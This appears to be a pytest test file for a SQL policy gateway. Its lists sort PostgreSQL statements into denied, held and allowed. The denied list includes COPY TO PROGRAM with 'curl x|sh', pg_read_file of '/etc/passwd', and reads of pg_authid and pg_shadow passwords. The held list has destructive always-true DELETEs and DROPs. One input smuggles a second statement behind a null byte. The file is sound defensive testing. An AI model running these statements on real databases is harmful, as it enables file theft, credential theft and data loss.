"""The reading of SQL, and its verdicts by the reference policy."""

from __future__ import annotations

from pathlib import Path

import pytest

from bastion.model import Identity, QueryRequest, SqlColumn, SqlReading, SqlUse, Target, TargetKind
from bastion.policy.decide import decide
from bastion.policy.parse import parse_policy
from bastion.policy.rules import Action
from bastion.policy.sql.kinds import KINDS
from bastion.policy.sql.reading import MAX_DENSE, MAX_SQL, read_sql

REFERENCE = Path(__file__).parents[2] / "policies" / "reference.yaml"
POLICY = parse_policy(REFERENCE.read_text("utf-8"), "reference")
WHO = Identity("i", "s", "ann", roles=frozenset({"engineer"}))
WHERE = Target("db", TargetKind.POSTGRES)

DENIED = """
COPY (SELECT 1) TO PROGRAM 'id'
copy t from program 'curl x|sh' with csv
COPY t TO '/tmp/x'
COPY t FROM '/etc/passwd'
SELECT lo_export(1,'/tmp/x')
SELECT lo_import('/x')
SELECT 1 FROM t ORDER BY pg_read_file('/x')
SELECT 1 FROM t GROUP BY pg_read_file('/x')
INSERT INTO t VALUES (pg_read_file('/x'))
UPDATE t SET v=pg_read_file('/x') WHERE id=1
DELETE FROM t WHERE id=1 RETURNING pg_read_file('/x')
SELECT CASE WHEN true THEN pg_read_file('/x') END
SELECT coalesce(pg_read_file('/x'),'')
VALUES (pg_read_file('/x'))
SELECT 1 LIMIT length(pg_read_file('/x'))
SELECT 1 OFFSET length(pg_read_file('/x'))
CREATE TABLE x (a text DEFAULT pg_read_file('/x'))
CREATE INDEX i ON t (pg_read_file(v))
PREPARE p AS SELECT pg_read_file('/x')
DECLARE c CURSOR FOR SELECT pg_read_file('/x')
EXECUTE p(pg_read_file('/x'))
CALL pg_read_file('/x')
CREATE TABLE x AS SELECT pg_read_file('/x')
CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT pg_read_file('/x')
COPY (SELECT pg_read_file('/x')) TO STDOUT
SELECT (pg_read_file('/x'))::bytea
SELECT * FROM ROWS FROM (pg_read_file('/x')) f
SELECT x FROM t JOIN LATERAL pg_ls_dir('.') d ON true
SELECT ROW(pg_read_file('/x'))
SELECT ARRAY[pg_read_file('/x')]
SELECT count(*) FILTER (WHERE pg_read_file('/x')='') FROM t
MERGE INTO t USING s ON t.id=s.id WHEN MATCHED THEN UPDATE SET v=pg_read_file('/x')
SELECT 1 UNION SELECT pg_read_file('/x')
INSERT INTO t SELECT * FROM pg_shadow
WITH RECURSIVE r AS (SELECT 1 UNION SELECT oid::int FROM pg_authid) SELECT * FROM r
CREATE ROLE x
CREATE GROUP g
ALTER SYSTEM SET x=1
ALTER SYSTEM RESET ALL
ALTER ROLE ALL SET x=1
ALTER USER x IN DATABASE d SET a=1
ALTER ROLE a RENAME TO b
SELECT dblink_send_query('a','b')
INSERT INTO t SELECT * FROM dblink('x','y') AS q(a int)
LOCK TABLE pg_authid
SELECT rolpassword FROM pg_catalog.pg_authid
SELECT * FROM t, pg_authid a
SELECT * FROM ONLY pg_authid
(SELECT 1) UNION ALL (TABLE pg_shadow)
DELETE FROM pg_authid WHERE oid=1
MERGE INTO t USING pg_authid s ON t.id=s.oid WHEN MATCHED THEN DO NOTHING
ALTER TABLE pg_authid ADD x int
""".strip().split("\n")

HELD = """
DELETE FROM ONLY t
DELETE FROM t *
UPDATE t SET a=1 FROM u
UPDATE t SET a=1 FROM u WHERE u.id=1
DELETE FROM t RETURNING *
WITH x AS (SELECT 1) DELETE FROM t
WITH x AS (DELETE FROM t RETURNING *) INSERT INTO u SELECT * FROM x
DELETE FROM t WHERE 1=1
DELETE FROM t WHERE NOT false
DELETE FROM t WHERE id=id
DELETE FROM t WHERE t.id=t.id
DELETE FROM t WHERE id=1 OR true
DELETE FROM t WHERE id=1 OR 1=1
DELETE FROM t WHERE 'a'='a'
DELETE FROM t WHERE (1=1) IS TRUE
DELETE FROM t WHERE EXISTS (SELECT 1)
DELETE FROM t WHERE id LIKE '%'
DELETE FROM t WHERE id = ANY(ARRAY(SELECT id FROM t))
DELETE FROM t WHERE id >= 0 OR id < 0
DELETE FROM t WHERE id = 1 OR id <> 1 OR id IS NULL
DELETE FROM t WHERE now() > '2000-01-01'
DELETE FROM t WHERE random() >= 0
DELETE FROM t WHERE coalesce(true,false)
DELETE FROM t WHERE CASE WHEN true THEN true END
DELETE FROM t WHERE NOT (id IS NULL AND id IS NOT NULL)
DELETE FROM t WHERE nullif(id, id) IS NULL
DELETE FROM t WHERE id NOT IN (NULL) IS NULL
DELETE FROM t WHERE (id = NULL) IS NULL
DELETE FROM t WHERE 1 IN (1)
DELETE FROM t WHERE 1 BETWEEN 0 AND 2
DELETE FROM t WHERE id IN (SELECT t.id FROM t)
DELETE FROM t WHERE EXISTS (SELECT 1 FROM t t2 WHERE t2.id = t.id)
DELETE FROM t WHERE (SELECT true)
DELETE FROM t WHERE (SELECT count(*) FROM t) > 0
DELETE FROM t WHERE id IS NOT NULL
DELETE FROM t WHERE $1
DELETE FROM t WHERE 1
DELETE FROM t WHERE current_user IS NOT NULL
DELETE FROM t WHERE id::text = id::text
DELETE FROM t WHERE length(v) >= 0
DELETE FROM t WHERE id > -1
DELETE FROM t WHERE ctid IS NOT NULL
DELETE FROM t WHERE t IS NOT NULL
DELETE FROM t WHERE t.* IS NOT NULL
DELETE FROM t USING t t2 WHERE t.id=t2.id
UPDATE t SET a=1 WHERE coalesce(a,1)=coalesce(a,1)
DELETE FROM t WHERE (a = 1)::int >= 0
DELETE FROM t WHERE (a = 1)::int IN (0, 1)
DELETE FROM t WHERE id = ANY (ARRAY[id, a])
DELETE FROM t WHERE id IN (5, id + 0)
DELETE FROM t WHERE CASE WHEN a > 0 THEN a > -1 ELSE true END
DELETE FROM t WHERE CASE a WHEN 1 THEN true ELSE a <> 1 END
DELETE FROM t WHERE 0 BETWEEN SYMMETRIC id AND 0
DELETE FROM t WHERE id BETWEEN least(id, a) AND greatest(id, a)
DELETE FROM t WHERE greatest(id, 5) >= 5
DELETE FROM t WHERE coalesce(a, 1) = coalesce(a, 1) AND length(v) > -1
DELETE FROM t WHERE abs(a) + abs(b) >= 0
DELETE FROM t WHERE a * a >= 0
DELETE FROM t WHERE a % 2 IN (-1, 0, 1)
DELETE FROM t WHERE num_nulls(a, v) < 3
DELETE FROM t WHERE xmin::text <> 'x'
DELETE FROM t WHERE ctid <> '(0,0)' AND xmax >= 0
DELETE FROM t WHERE EXISTS (SELECT 1 WHERE id <= greatest(id, 2))
DELETE FROM t WHERE (SELECT id) = id
DELETE FROM t WHERE id IN (SELECT id)
DELETE FROM t WHERE (a = 1) = (NOT a <> 1)
DELETE FROM t WHERE (NULL = 'x') IS UNKNOWN
DELETE FROM t WHERE (a, id) = (a, id)
DELETE FROM t WHERE (ARRAY[id, a])[1] = id
DELETE FROM t WHERE v || 'x' LIKE '%x'
DELETE FROM t WHERE concat(v, 'x') <> ''
DELETE FROM t WHERE a < $1 OR a >= $1
DELETE FROM t WHERE a IS NULL OR a < 5 OR a > 4
DELETE FROM t WHERE id IN (SELECT id FROM t WHERE a * a >= 0)
UPDATE t SET a = 1 WHERE NOT (id = 1 AND id = 2)
TRUNCATE t, u CASCADE
TRUNCATE ONLY t
DROP VIEW v
DROP FUNCTION f(int)
DROP OWNED BY x
DROP EXTENSION x
ALTER VIEW v RENAME TO w
ALTER SEQUENCE s RESTART
ALTER FUNCTION f() OWNER TO x
ALTER TYPE t ADD VALUE 'x'
REVOKE x FROM y
GRANT SELECT ON pg_authid TO x
DROP USER a, b
DROP GROUP g
ALTER DATABASE d OWNER TO x
ALTER TABLE t RENAME COLUMN a TO b
ALTER EXTENSION x UPDATE
ALTER DOMAIN d SET NOT NULL
DROP TYPE t
DROP POLICY p ON t
DROP TRIGGER x ON t
DROP RULE r ON t
DROP USER MAPPING FOR x SERVER s
DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'x'; END $$
DO 'begin null; end'
SELECT query_to_xml(v,true,true,'') FROM t
CREATE PROCEDURE p() LANGUAGE plpgsql AS 'begin delete from t; end'
CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'x','y'
CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'
EXPLAIN ANALYZE UPDATE t SET a=1
EXPLAIN (ANALYZE, VERBOSE) DELETE FROM t
EXPLAIN (ANALYZE on) TRUNCATE t
PREPARE d AS DELETE FROM t
EXPLAIN ANALYZE EXECUTE d
COPY (UPDATE t SET a=1 RETURNING *) TO STDOUT
CREATE RULE r AS ON DELETE TO t DO INSTEAD (DELETE FROM u; DELETE FROM v)
WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1
MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN UPDATE SET v=1
CREATE SCHEMA s CREATE TABLE x(a int) GRANT SELECT ON x TO y
""".strip().split("\n")

ALLOWED = """
DELETE FROM t WHERE id IN (SELECT tid FROM u)
DELETE FROM t WHERE ctid IN (SELECT ctid FROM t LIMIT 10)
DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)
DELETE FROM t WHERE id IN (SELECT id FROM t WHERE v = 1)
UPDATE t SET a=1 WHERE deleted_at IS NULL
DELETE FROM t WHERE nullif(v, '') IS NULL
DELETE FROM t WHERE (a = 1) IS NULL
DELETE FROM t WHERE expires < now()
DELETE FROM t WHERE a IS NOT NULL
DELETE FROM t WHERE name LIKE 'x%'
DELETE FROM t USING u WHERE t.id=u.tid AND u.x=1
UPDATE t AS x SET a=1 WHERE x.id=$1
DELETE FROM s.t WHERE t.id=1
DELETE FROM t WHERE NOT active
DELETE FROM t WHERE (a,b)=(1,2)
DELETE FROM t WHERE (a,b) IN ((1,2))
DELETE FROM t WHERE a<b
DELETE FROM t WHERE id=1 OR id=2
DELETE FROM t WHERE id<5 OR id>10
DELETE FROM t WHERE CURRENT OF c
UPDATE t SET a=1 WHERE lower(v)='x'
WITH x AS (SELECT id FROM u WHERE b) DELETE FROM t USING x WHERE t.id=x.id
WITH x AS (SELECT id FROM t WHERE v=1) UPDATE t SET v=2 WHERE id IN (SELECT id FROM x)
UPDATE t SET v=2 WHERE id = (SELECT max(id) FROM t)
DELETE FROM t WHERE data->>'x' = 'y'
DELETE FROM t WHERE tags @> ARRAY['x']
DELETE FROM t WHERE age > 18
DELETE FROM t WHERE created_at < now() - interval '1 day'
DELETE FROM t WHERE id BETWEEN $1 AND $2
DELETE FROM t WHERE (a = 1)::int = 1
DELETE FROM t WHERE id = ANY (ARRAY[1, a])
DELETE FROM t WHERE id = ANY ($1)
DELETE FROM t WHERE CASE WHEN a > 0 THEN a > 10 ELSE true END
DELETE FROM t WHERE greatest(a, b) < 5
DELETE FROM t WHERE coalesce(a, 0) = 0
DELETE FROM t WHERE a % 2 = 0
DELETE FROM t WHERE a + 3 <> 10
DELETE FROM t WHERE a <> 5 AND b <> 6
DELETE FROM t WHERE NOT (id = 5)
DELETE FROM t WHERE a NOT IN (1, 2, 3, 4, 5)
DELETE FROM t WHERE (a = 1) IS NOT TRUE
DELETE FROM t WHERE a IS NULL OR a < 5
DELETE FROM t WHERE a IS DISTINCT FROM 5
DELETE FROM t WHERE v NOT LIKE 'abc%'
DELETE FROM t WHERE length(v) < 100
DELETE FROM t WHERE length(trim(v)) = 0
DELETE FROM t WHERE lower(v) <> 'abc'
DELETE FROM t WHERE v || 'x' <> 'abcx'
DELETE FROM t WHERE left(v, 3) = 'abc'
DELETE FROM t WHERE active AND NOT deleted
DELETE FROM t WHERE active OR a = 1
DELETE FROM t WHERE a = $1 OR b = $1
DELETE FROM t WHERE f(v) OR id = 5
DELETE FROM t WHERE ctid = '(0,1)'
DELETE FROM t WHERE v = '5' OR v = 'x'
DELETE FROM t WHERE price > 9.99
DELETE FROM t WHERE price * 1.1 < 10
DELETE FROM t WHERE a < 1000000
DELETE FROM t WHERE at >= '2024-01-01'
DELETE FROM t WHERE at::date = '2024-01-01'
DELETE FROM t WHERE flags & 4 = 4
DELETE FROM t WHERE num_nulls(a, b) = 2
DELETE FROM t WHERE v SIMILAR TO 'x%' OR v ~ 'abc'
BEGIN
SET search_path TO x
SHOW ALL
LISTEN c
VACUUM ANALYZE t
REINDEX TABLE t
REFRESH MATERIALIZED VIEW m
DISCARD ALL
DEALLOCATE ALL
FETCH 10 FROM c
SAVEPOINT s
CREATE VIEW v AS SELECT 1
CREATE TYPE x AS ENUM ('a')
CREATE EXTENSION pgcrypto
SET ROLE app
INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING
INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v=excluded.v
CREATE TRIGGER x BEFORE INSERT ON t EXECUTE FUNCTION f()
CALL p(1)
SELECT f(1)
EXPLAIN SELECT 1
;
-- x
SELECT set_config('a.b','c',false)
SELECT pg_get_functiondef('pg_read_file'::regproc)
PREPARE p AS SELECT 1
CREATE DATABASE x
CREATE SERVER s FOREIGN DATA WRAPPER w
CREATE POLICY p ON t
SELECT lo_create(0)
EXPLAIN DELETE FROM t
SELECT (x).pg_authid FROM q
CREATE TABLE pg_read_file (a int)
MERGE INTO t USING s ON t.id=s.id WHEN NOT MATCHED THEN INSERT VALUES (1)
""".strip().split("\n")


def verdict(sql):
    return decide(POLICY, WHO, WHERE, "ops", QueryRequest(sql, read_sql(sql)))


@pytest.mark.parametrize("sql", DENIED)
def test_denied(sql):
    assert verdict(sql).action is Action.DENY, sql


@pytest.mark.parametrize("sql", HELD)
def test_held(sql):
    assert verdict(sql).action is not Action.ALLOW, sql


@pytest.mark.parametrize("sql", [*ALLOWED, "", "-- nothing"])
def test_allowed(sql):
    assert verdict(sql).action is Action.ALLOW, sql


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) f",
        "SELECT unnest.pg_read_file FROM unnest(ARRAY['/etc/passwd'])",
        "SELECT f.pg_read_file FROM CAST('/etc/passwd' AS text) f",
        "SELECT ('/etc/passwd'::text).pg_read_file",
        "SELECT (x).pg_read_file FROM (SELECT '/etc/passwd'::text) q(x)",
        "SELECT 1 FROM unnest(ARRAY['/etc/passwd']) f WHERE EXISTS (SELECT f.pg_read_file)",
    ],
)
def test_a_function_is_also_called_by_a_dot(sql):
    """PostgreSQL 15 really reads the file for all of these."""
    assert verdict(sql).action is Action.DENY


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT n.pg_read_file FROM notes n",
        "WITH n AS (SELECT 1 AS lo_import) SELECT n.lo_import FROM n",
        "SELECT q.pg_ls_dir FROM (SELECT 1 AS pg_ls_dir) q",
        "UPDATE notes SET a = 1 WHERE notes.pg_read_file = 'x'",
    ],
)
def test_a_column_with_the_name_of_a_function_is_a_column(sql):
    assert verdict(sql).action is Action.ALLOW


def test_pg_dump_names_what_it_sets_in_its_condition():
    (statement,) = read_sql(
        "SELECT set_config(name, 'view', false) FROM pg_settings WHERE name = 'some_setting'"
    ).statements
    assert not statement.opaque
    assert any(use.setting == "some_setting" for use in statement.uses)
    (statement,) = read_sql("SELECT set_config(name, 'x', false) FROM pg_settings").statements
    assert statement.opaque


def test_every_kind_is_one_that_policies_know():
    for sql in DENIED + HELD + ALLOWED:
        for statement in read_sql(sql).statements:
            assert {use.kind for use in statement.uses} <= KINDS, sql


@pytest.mark.parametrize(
    "sql",
    [
        "select 1\0; drop table t",
        "x" * (MAX_SQL + 1),
        "SELECT " + "1, " * (MAX_DENSE // 3) + "1",
        "selec 1",
        "select '\ud800'",
        "select nbsp\u00a01",
    ],
)
def test_what_no_parser_reads_is_refused(sql):
    reading = read_sql(sql)
    if not reading.fault:
        assert "nbsp" in sql
        return
    assert not reading.statements
    assert verdict(sql).action is Action.DENY


def test_a_fault_says_whether_the_server_would_find_it_too():
    assert read_sql("selec 1").syntax
    assert not read_sql("select 1\0").syntax


def columns(sql):
    reading: SqlReading = read_sql(sql)
    assert not reading.fault
    return {(one.table, one.column, one.plain) for one in reading.statements[0].columns}


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT ssn FROM people",
        "SELECT p.ssn AS x FROM people p",
        "SELECT * FROM people",
        "SELECT q.ssn FROM (SELECT ssn FROM people) q",
        "WITH q AS (SELECT ssn FROM people) SELECT * FROM q",
        "DELETE FROM people WHERE id = 1 RETURNING ssn",
        "INSERT INTO people (ssn) VALUES ('1')",
    ],
)
def test_a_column_that_only_comes_out_is_plain(sql):
    named = [one for one in columns(sql) if one[1] in {"ssn", "*"} and one[0] in {"people", ""}]
    assert named
    assert all(plain for _, _, plain in named), named


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT lower(ssn) FROM people",
        "SELECT 1 FROM people WHERE ssn LIKE '1%'",
        "SELECT id FROM people ORDER BY ssn",
        "SELECT row_to_json(p) FROM people p",
        "SELECT 1 FROM (SELECT ssn AS x FROM people) q WHERE x LIKE '1%'",
        "SELECT 1 FROM people p(a, b, c) WHERE c = '1'",
        "WITH q(x) AS (SELECT ssn FROM people) SELECT 1 FROM q WHERE x = '1'",
        "UPDATE people SET name = ssn RETURNING name",
        "CREATE TABLE x AS SELECT ssn FROM people",
        "SELECT ssn INTO x FROM people",
        "INSERT INTO x SELECT ssn FROM people",
        "INSERT INTO x SELECT * FROM people",
        "COPY people TO '/tmp/x'",
        "COPY (SELECT ssn FROM people) TO '/tmp/x'",
        "SELECT name FROM x UNION SELECT ssn FROM people",
        "SELECT (SELECT ssn FROM people LIMIT 1)",
        "SELECT 1 FROM people JOIN x USING (ssn)",
        "SELECT 1 FROM people NATURAL JOIN x",
        "EXPLAIN SELECT 1 FROM people WHERE ssn = '1'",
        "CREATE VIEW v AS SELECT ssn FROM people",
        "DO $$ BEGIN PERFORM ssn FROM people; END $$",
        "SELECT pg_notify('c', ssn) FROM people",
    ],
)
def test_a_column_that_something_sees_is_not_plain(sql):
    assert any(
        one[1] in {"ssn", "*"} and one[0] in {"people", ""} and not one[2] for one in columns(sql)
    ), columns(sql)


def test_a_column_names_its_table_through_an_alias():
    reading = read_sql("SELECT p.ssn FROM s.people p, orders")
    assert SqlColumn("s.people", "ssn", plain=True) in reading.statements[0].columns


BODY = """CREATE FUNCTION f() RETURNS {} LANGUAGE plpgsql AS $$
BEGIN RAISE NOTICE '[{{}}}}, " % %', TG_OP, 1; PERFORM pg_read_file('/x'); {}; END $$"""


@pytest.mark.parametrize(
    "sql",
    [
        BODY.format("trigger", "RETURN new"),
        BODY.format("event_trigger", "NULL"),
        "CREATE FUNCTION f() RETURNS text RETURN pg_read_file('/x')",
        "CREATE FUNCTION f() RETURNS text BEGIN ATOMIC ; RETURN pg_read_file('/x'); END",
    ],
)
def test_bodies_of_triggers_and_of_the_standard_are_opened(sql):
    """libpg_query's answer about a trigger function is not quite JSON."""
    (statement,) = read_sql(sql).statements
    assert statement.opaque == ()
    assert "pg_read_file" in {use.function for use in statement.uses}


def test_the_snapshot_of_another_transaction_is_read():
    """pg_dump -j: each of its connections sees what the first one does."""
    (statement,) = read_sql("SET TRANSACTION SNAPSHOT '00000004-000001CA-1'").statements
    assert [use.kind for use in statement.uses] == ["transaction", "set"]


def test_a_trigger_on_events_is_read():
    sql = "CREATE EVENT TRIGGER e ON sql_drop WHEN TAG IN ('DROP TABLE') EXECUTE FUNCTION f()"
    (statement,) = read_sql(sql).statements
    assert [(use.kind, use.function) for use in statement.uses] == [
        ("create-trigger", ""),
        ("function", "f"),
    ]


@pytest.mark.parametrize(
    "value", ["\\x" + "ab" * 2_000_000, "QUJD/+" * 700_000 + "QQ=="], ids=["hex", "base64"]
)
def test_a_file_that_is_written_into_the_text_is_read(value):
    """psycopg2 sends every value so; two megabytes of an image were refused."""
    (statement,) = read_sql(f"INSERT INTO files VALUES (1, '{value}')").statements
    assert SqlUse("insert", "files") in statement.uses
